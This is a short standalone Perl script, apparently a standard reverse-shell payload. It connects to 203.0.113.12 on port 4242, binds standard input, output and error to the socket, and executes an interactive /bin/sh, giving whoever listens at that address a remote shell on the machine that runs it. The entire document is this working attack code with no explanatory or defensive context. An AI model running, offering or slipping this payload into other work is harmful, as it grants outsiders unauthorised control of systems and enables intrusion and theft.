use Socket;
$i = "203.0.113.12"; $p = 4242;
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
if (connect(S, sockaddr_in($p, inet_aton($i)))) {
  open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
  exec("/bin/sh -i");
}
